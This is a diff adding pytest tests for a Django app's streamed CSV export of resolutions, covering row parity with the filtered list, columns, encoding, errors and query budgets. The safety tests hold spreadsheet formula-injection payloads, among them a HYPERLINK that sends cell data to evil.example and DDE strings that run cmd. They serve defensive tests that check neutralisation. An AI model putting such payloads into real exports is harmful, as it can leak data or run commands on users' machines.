@@ -1,0 +1,297 @@
+"""The CSV export: the filtered list's exact rows, streamed, UTF-8, safe to open in a spreadsheet."""
+
+import codecs
+import csv
+import datetime
+import io
+import math
+
+import pytest
+from django.http import StreamingHttpResponse
+from django.utils import timezone
+from hypothesis import given
+from hypothesis import strategies as st
+
+from recognition import exports
+from recognition.models import Jurisdiction, Resolution, Source
+from tests.conftest import PlaceFactory, ResolutionFactory, get_county, get_state
+from tests.test_list import listed
+
+CSV_URL = "/resolutions.csv"
+STARTER_CSV = "recognition/data/starter_dataset.csv"
+HEADER = [
+    "id",
+    "jurisdiction",
+    "state",
+    "fips",
+    "county_fips",
+    "level",
+    "kind",
+    "status",
+    "introduced_on",
+    "adopted_on",
+    "effective_on",
+    "identifier",
+    "title",
+    "summary",
+    "body",
+    "source_urls",
+    "last_verified_on",
+    "url",
+]
+
+
+def download(client, params=None):
+    response = client.get(CSV_URL, params or {})
+    assert response.status_code == 200, response
+    body = b"".join(response.streaming_content)
+    return response, body
+
+
+def read_csv(body):
+    """(header, [row dicts]) from the downloaded bytes."""
+    assert body.startswith(codecs.BOM_UTF8)
+    reader = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
+    header = next(reader)
+    return header, [dict(zip(header, row, strict=True)) for row in reader]
+
+
+def csv_rows(client, params=None):
+    _response, body = download(client, params)
+    return read_csv(body)[1]
+
+
+class TestNeutralise:
+    @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
+    def test_dangerous_first_characters_get_a_quote(self, first):
+        assert exports.neutralise(f"{first}1+1") == f"'{first}1+1"
+
+    @pytest.mark.parametrize(
+        "value, expected",
+        [
+            ("Resolution 2020-R-026", "Resolution 2020-R-026"),
+            ("a=b", "a=b"),
+            (" =1", " =1"),
+            ("", ""),
+            (None, ""),
+            (42, "42"),
+            ("'quoted", "'quoted"),
+            ("HB 414", "HB 414"),
+        ],
+    )
+    def test_everything_else_is_unchanged(self, value, expected):
+        assert exports.neutralise(value) == expected
+
+    @given(st.text())
+    def test_never_starts_a_formula_and_loses_nothing(self, text):
+        cell = exports.neutralise(text)
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert cell in (text, "'" + text)
+
+
+@pytest.mark.django_db
+class TestSameRowsAsTheList:
+    @pytest.mark.parametrize(
+        "params",
+        [
+            {},
+            {"state": ["AL"]},
+            {"state": ["CO", "WV"], "level": ["county"], "ordering": "jurisdiction"},
+            {"kind": ["statute"], "ordering": "-adopted"},
+            {"status": ["introduced", "failed"], "ordering": "state"},
+            {"adopted_after": "2021-01-01", "adopted_before": "2022-12-31", "ordering": "adopted"},
+            {"q": "Hanceville"},
+            {"state": ["WY"]},
+        ],
+    )
+    def test_same_rows_same_order(self, client, starter_dataset, params):
+        _response, listed_ids = listed(client, params)
+        exported_ids = [int(row["id"]) for row in csv_rows(client, params)]
+        assert exported_ids == listed_ids
+
+    def test_page_parameter_is_ignored(self, client, starter_dataset):
+        assert len(csv_rows(client, {"page": "2"})) == 57
+
+    def test_only_published_records(self, client, starter_dataset):
+        draft = ResolutionFactory(published=False, title="Unpublished draft")
+        rows = csv_rows(client)
+        assert len(rows) == Resolution.objects.filter(published=True).count() == 57
+        assert str(draft.pk) not in {row["id"] for row in rows}
+
+
+@pytest.mark.django_db
+class TestColumns:
+    def test_header(self, client, starter_dataset):
+        _response, body = download(client)
+        header, _rows = read_csv(body)
+        assert header == HEADER == exports.HEADER
+
+    def test_partial_dates_keep_their_precision(self, client, starter_dataset):
+        """Every exported date is exactly what the cited starter file says, at its precision."""
+        with open(STARTER_CSV, encoding="utf-8") as handle:
+            source = {
+                (row["jurisdiction"], row["identifier"], row["title"]): row for row in csv.DictReader(handle)
+            }
+        rows = csv_rows(client)
+        for row in rows:
+            original = source[(row["jurisdiction"], row["identifier"], row["title"])]
+            for column in ("introduced_on", "adopted_on", "effective_on"):
+                assert row[column] == original[column], (row["title"], column)
+        by_identifier = {row["identifier"]: row for row in rows}
+        assert by_identifier["HB 414 (Act 2022-387)"]["adopted_on"] == "2022-04-18"
+        assert by_identifier["S7121 / A7366-A (Chapter 426 of 2021)"]["adopted_on"] == "2021-09"
+        assert by_identifier["HB 1090 (86th Leg., R.S.)"]["adopted_on"] == "2019"
+
+    def test_fips_of_each_level(self, client, starter_dataset):
+        rows = {(row["jurisdiction"], row["state"]): row for row in csv_rows(client, {"state": "AL"})}
+        assert rows[("Alabama", "AL")]["fips"] == "01"
+        assert rows[("Alabama", "AL")]["county_fips"] == ""
+        assert rows[("Mobile County", "AL")]["fips"] == "01097"
+        assert rows[("Mobile County", "AL")]["county_fips"] == ""
+        city = rows[("City of Mobile", "AL")]
+        assert city["fips"] == "", "a city has no FIPS code of its own here"
+        assert city["county_fips"] == "01097"
+        assert city["level"] == "place"
+        district = rows[("Jefferson County 911 Emergency Communications District", "AL")]
+        assert district["level"] == "district"
+        assert (
+            district["county_fips"]
+            == Jurisdiction.objects.get(name="Jefferson County", parent__usps="AL").fips
+        )
+
+    def test_federal_rows(self, client, starter_dataset):
+        rows = csv_rows(client, {"level": "nation"})
+        assert len(rows) == 9
+        assert {(row["state"], row["fips"], row["county_fips"], row["level"]) for row in rows} == {
+            ("", "", "", "nation")
+        }
+
+    def test_row_contents(self, client, starter_dataset):
+        law = Resolution.objects.get(identifier="HB 414 (Act 2022-387)")
+        law.last_verified_on = datetime.date(2025, 1, 15)
+        law.save()
+        Source.objects.create(resolution=law, url="https://example.org/second", title="Second source")
+        Source.objects.create(resolution=law, title="A source with no link")
+        row = next(row for row in csv_rows(client, {"state": "AL"}) if row["id"] == str(law.pk))
+        urls = [source.url for source in law.sources.all() if source.url]
+        assert len(urls) == 2
+        assert row["source_urls"] == " | ".join(urls)
+        assert row["url"] == f"http://testserver{law.get_absolute_url()}"
+        assert row["last_verified_on"] == "2025-01-15"
+        assert (row["kind"], row["status"], row["title"], row["body"]) == (
+            law.kind,
+            law.status,
+            law.title,
+            law.body,
+        )
+        assert row["summary"] == law.summary
+
+
+@pytest.mark.django_db
+class TestSafety:
+    @pytest.mark.parametrize(
+        "dangerous",
+        [
+            '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+        ],
+    )
+    def test_formulas_are_neutralised(self, client, dangerous):
+        resolution = ResolutionFactory(
+            title=dangerous, summary=dangerous, identifier=dangerous, body=dangerous
+        )
+        (row,) = csv_rows(client)
+        assert row["id"] == str(resolution.pk)
+        for column in ("title", "summary", "identifier", "body"):
+            assert row[column] == "'" + dangerous
+
+    def test_dona_ana_round_trips_as_utf8(self, client):
+        dona_ana = get_county("35013")
+        assert dona_ana.name == "Doña Ana County"
+        ResolutionFactory(
+            jurisdiction=dona_ana,
+            title="Doña Ana County honors its telecommunicators",
+            summary="Año 2024 – “quoted”",
+        )
+        _response, body = download(client, {"state": "NM"})
+        assert "Doña Ana County".encode() in body
+        (row,) = read_csv(body)[1]
+        assert row["jurisdiction"] == "Doña Ana County"
+        assert row["title"] == "Doña Ana County honors its telecommunicators"
+        assert row["summary"] == "Año 2024 – “quoted”"
+
+    def test_commas_quotes_and_newlines_survive(self, client):
+        ResolutionFactory(title='Resolution "A", part 1', summary="Line one\nline two, with a comma")
+        (row,) = csv_rows(client)
+        assert row["title"] == 'Resolution "A", part 1'
+        assert row["summary"] == "Line one\nline two, with a comma"
+
+
+@pytest.mark.django_db
+class TestResponse:
+    def test_streamed_attachment_with_todays_date(self, client, starter_dataset):
+        response, body = download(client)
+        assert isinstance(response, StreamingHttpResponse)
+        assert response.streaming
+        assert response["Content-Type"] == "text/csv; charset=utf-8"
+        today = timezone.localdate().isoformat()
+        assert response["Content-Disposition"] == f'attachment; filename="dispatcher-recognition-{today}.csv"'
+        assert body.startswith(codecs.BOM_UTF8)
+
+    @pytest.mark.parametrize(
+        "params, message",
+        [
+            ({"state": "ZZ"}, "State: Select a valid choice. ZZ is not one of the available choices."),
+            ({"adopted_after": "2022-02-30"}, "Adopted on or after: Enter a valid date."),
+            ({"q": "a\x00b"}, "Search: Null characters are not allowed."),
+            (
+                {"ordering": "nope"},
+                "Sort by: Select a valid choice. nope is not one of the available choices.",
+            ),
+        ],
+    )
+    def test_bad_parameters_are_a_plain_text_400(self, client, params, message):
+        response = client.get(CSV_URL, params)
+        assert response.status_code == 400
+        assert response["Content-Type"] == "text/plain; charset=utf-8"
+        text = response.content.decode()
+        assert message in text
+        assert "\x00" not in text
+
+    def test_all_errors_listed(self, client):
+        text = client.get(CSV_URL, {"state": "A\x00L", "adopted_before": "2022-13-01"}).content.decode()
+        assert "- State:" in text and "- Adopted on or before:" in text
+        assert "\x00" not in text
+
+
+@pytest.mark.django_db
+class TestQueryBudget:
+    def count_queries(self, client, django_assert_max_num_queries, budget, params=None):
+        with django_assert_max_num_queries(budget) as captured:
+            response = client.get(CSV_URL, params or {})
+            rows = read_csv(b"".join(response.streaming_content))[1]
+        return rows, len(captured)
+
+    @pytest.mark.parametrize("chunk_size", [7, 25, 2000])
+    def test_at_most_four_plus_one_per_batch(
+        self, client, starter_dataset, monkeypatch, django_assert_max_num_queries, chunk_size
+    ):
+        monkeypatch.setattr(exports, "CSV_CHUNK_SIZE", chunk_size)
+        batches = math.ceil(57 / chunk_size)
+        rows, _count = self.count_queries(client, django_assert_max_num_queries, 4 + batches)
+        assert len(rows) == 57
+
+    def test_queries_do_not_grow_with_rows(self, client, starter_dataset, django_assert_max_num_queries):
+        _rows, small = self.count_queries(client, django_assert_max_num_queries, 5)
+        for usps in ["AL", "TX", "NM"]:
+            state = get_state(usps)
+            county = state.children.filter(level="county").first()
+            ResolutionFactory.create_batch(40, jurisdiction=PlaceFactory(parent=state, county=county))
+            ResolutionFactory.create_batch(40, jurisdiction=county)
+        rows, large = self.count_queries(client, django_assert_max_num_queries, 5)
+        assert len(rows) == 57 + 240
+        assert large == small
